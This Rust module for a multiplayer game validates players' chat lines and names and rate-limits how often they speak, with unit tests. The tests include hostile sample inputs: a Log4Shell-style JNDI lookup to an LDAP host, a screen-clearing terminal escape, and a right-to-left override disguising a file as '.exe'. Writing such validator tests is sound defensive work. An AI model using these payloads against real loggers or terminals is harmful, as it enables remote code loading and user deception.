//! Text from players: what is accepted, and how often. For every game that lets players talk.
//!
//! A player's words end up in other players' windows, in terminals and in logs, so they are only ever
//! a value: short, valid UTF-8, on one line, and free of characters that a reader cannot see but a
//! terminal obeys (escape sequences, line breaks, right-to-left overrides, joiners). What breaks a
//! rule is refused whole; nothing is repaired, so there is no second spelling of a forbidden text.
//! Names are narrower still: ASCII letters, digits, space, `_` and `-`.
//!
//! How often is a [`SpeechAllowance`] per player: [`SPEECH_BURST`] lines at once, then one every
//! [`SPEECH_INTERVAL_S`] seconds, counted by the world's ticks. Lines over it are dropped and counted.
//!
//! A [`Line`] and a [`Name`] are such texts as fields of what players send: see `throng_pack`.
//!
//! Nothing here allocates. Cost: a pass over at most 120 bytes.

use bevy_ecs::component::Component;
use throng_pack::Pack;

mod spoken;

pub use spoken::{Line, Name};

/// Lines a player may say at once after a silence.
pub const SPEECH_BURST: u8 = 3;
/// Seconds until one more line may be said.
pub const SPEECH_INTERVAL_S: f32 = 2.0;
/// Combining marks in a row, above which letters would grow over neighbouring lines.
const MARKS_IN_A_ROW_MAX: usize = 2;

/// Why a text was refused.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum TextFault {
    #[error("the text is empty, blank or too long")]
    Length,
    #[error("the text is not UTF-8")]
    Encoding,
    #[error("the text holds a control, invisible or direction-changing character")]
    Forbidden,
}

/// A line to be shown to others: valid UTF-8, 1 to `bytes_max` bytes, visible characters only.
pub fn accept_line(bytes: &[u8], bytes_max: usize) -> Result<&str, TextFault> {
    if bytes.is_empty() || bytes.len() > bytes_max {
        return Err(TextFault::Length);
    }
    let line = std::str::from_utf8(bytes).map_err(|_| TextFault::Encoding)?;
    let mut marks_in_a_row = 0;
    for character in line.chars() {
        marks_in_a_row = if is_combining(character) { marks_in_a_row + 1 } else { 0 };
        if is_forbidden(character) || marks_in_a_row > MARKS_IN_A_ROW_MAX {
            return Err(TextFault::Forbidden);
        }
    }
    if line.trim().is_empty() {
        return Err(TextFault::Length);
    }
    Ok(line)
}

/// A player's name: 1 to `bytes_max` ASCII letters, digits, `_`, `-` and inner spaces.
pub fn accept_name(bytes: &[u8], bytes_max: usize) -> Result<&str, TextFault> {
    let name = accept_line(bytes, bytes_max)?;
    if name.trim().len() != name.len() {
        return Err(TextFault::Length);
    }
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b' ' | b'_' | b'-');
    if !name.bytes().all(plain) {
        return Err(TextFault::Forbidden);
    }
    Ok(name)
}

/// How much a player may still say. Lives as long as the player stays in the world.
#[derive(Component, Debug, Clone, Copy, Pack)]
#[pack(name = "speech.allowance")]
pub struct SpeechAllowance {
    lines_left: u8,
    refilled_tick: u32,
}

impl SpeechAllowance {
    /// A newcomer starts with one line, so that hopping between worlds buys nothing.
    pub fn new(tick: u32) -> Self {
        Self { lines_left: 1, refilled_tick: tick }
    }

    /// Whether one more line may be said now; takes it from the allowance if so.
    pub fn take(&mut self, tick: u32, tick_hz: f32) -> bool {
        let interval_ticks = (SPEECH_INTERVAL_S * tick_hz) as u32;
        let earned = tick.saturating_sub(self.refilled_tick) / interval_ticks.max(1);
        if earned > 0 {
            self.lines_left = SPEECH_BURST.min(self.lines_left.saturating_add(earned.min(255) as u8));
            self.refilled_tick += earned * interval_ticks;
        }
        let allowed = self.lines_left > 0;
        self.lines_left -= u8::from(allowed);
        allowed
    }
}

fn is_combining(character: char) -> bool {
    matches!(character,
        '\u{0300}'..='\u{036f}'      // combining diacritical marks
        | '\u{0483}'..='\u{0489}'
        | '\u{1ab0}'..='\u{1aff}'
        | '\u{1dc0}'..='\u{1dff}'
        | '\u{20d0}'..='\u{20ff}'
        | '\u{fe20}'..='\u{fe2f}')
}

fn is_forbidden(character: char) -> bool {
    character.is_control() // C0, C1 and DEL: line breaks, escape sequences, bells
        || matches!(character,
            '\u{00ad}'                     // soft hyphen
            | '\u{034f}'                   // grapheme joiner
            | '\u{061c}'                   // Arabic letter mark
            | '\u{115f}'..='\u{1160}'      // Hangul fillers
            | '\u{180b}'..='\u{180e}'      // Mongolian variation selectors, vowel separator
            | '\u{200b}'..='\u{200f}'      // zero widths, joiners, direction marks
            | '\u{2028}'..='\u{202e}'      // line and paragraph separators, direction overrides
            | '\u{2060}'..='\u{206f}'      // word joiner, isolates, deprecated controls
            | '\u{3164}'                   // Hangul filler
            | '\u{e000}'..='\u{f8ff}'      // private use
            | '\u{fe00}'..='\u{fe0f}'      // variation selectors
            | '\u{feff}'                   // byte order mark
            | '\u{ffa0}'                   // half-width filler
            | '\u{fff0}'..='\u{ffff}'      // specials, annotation, replacement, non-characters
            | '\u{1d173}'..='\u{1d17a}'    // invisible musical controls
            | '\u{e0000}'..='\u{10ffff}') // tags, selectors, private planes
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(bytes: &[u8], expect: Result<&str, TextFault>) {
        assert_eq!(accept_line(bytes, 120), expect, "{:?}", String::from_utf8_lossy(bytes));
    }

    #[test]
    fn honest_lines_pass() {
        for line in ["hi", "zwölf Häuser", "日本語でも", "привет", "50% off? {} %s $HOME", "🙂"] {
            check(line.as_bytes(), Ok(line));
        }
        // Looks like an attack on a logger, is only a value here.
        let jndi = "${jndi:ldap://198.51.100.7/a}";
        check(jndi.as_bytes(), Ok(jndi));
    }

    #[test]
    fn abuse_is_refused_whole() {
        use TextFault::*;
        let long = "x".repeat(121);
        let huge = "x".repeat(1 << 20);
        let table: [(&[u8], TextFault); 22] = [
            (b"", Length),
            (b"   ", Length),
            (long.as_bytes(), Length),
            (huge.as_bytes(), Length),
            (b"\xff\xfe", Encoding),
            (b"half \xe2\x82", Encoding),
            (b"overlong \xc0\x80", Encoding),
            (b"surrogate \xed\xa0\x80", Encoding),
            (b"beyond \xf4\x90\x80\x80", Encoding),
            (b"two\nlines", Forbidden),
            (b"two\r\nlines", Forbidden),
            (b"nul\0", Forbidden),
            (b"tab\t", Forbidden),
            (b"bell\x07", Forbidden),
            (b"\x1b[2Jcleared", Forbidden),
            ("c1 \u{9b}31m".as_bytes(), Forbidden),
            ("override \u{202e}txt.exe".as_bytes(), Forbidden),
            ("isolate \u{2066}x".as_bytes(), Forbidden),
            ("line\u{2028}separator".as_bytes(), Forbidden),
            ("zero\u{200b}width".as_bytes(), Forbidden),
            ("tag \u{e0041}".as_bytes(), Forbidden),
            ("stacked a\u{301}\u{301}\u{301}\u{301}".as_bytes(), Forbidden),
        ];
        for (bytes, fault) in table {
            check(bytes, Err(fault));
        }
    }

    #[test]
    fn names_are_narrower_than_lines() {
        let name = |bytes: &'static [u8]| accept_name(bytes, 24);
        assert_eq!(name(b"Agent 7"), Ok("Agent 7"));
        assert_eq!(name(b"x_-1"), Ok("x_-1"));
        assert_eq!(name(b" padded"), Err(TextFault::Length));
        assert_eq!(name("Ägent".as_bytes()), Err(TextFault::Forbidden));
        assert_eq!(name(b"<b>"), Err(TextFault::Forbidden));
        assert_eq!(name(b"a name of twenty-five byte"), Err(TextFault::Length));
    }

    /// Promise: a flood of lines yields the burst and then one line per interval, no more.
    #[test]
    fn a_flood_is_limited_by_the_clock_of_the_world() {
        let mut allowance = SpeechAllowance::new(0);
        let tick_hz = 20.0;
        let said = (0..60 * 20)
            .flat_map(|tick| std::iter::repeat_n(tick, 10))
            .filter(|&tick| allowance.take(tick, tick_hz))
            .count();
        assert_eq!(said, 30, "one at once, then 29 in the 59 whole seconds after it");
        let after_a_silence = (0..10).filter(|_| allowance.take(100_000, tick_hz)).count();
        assert_eq!(after_a_silence, usize::from(SPEECH_BURST));
    }
}
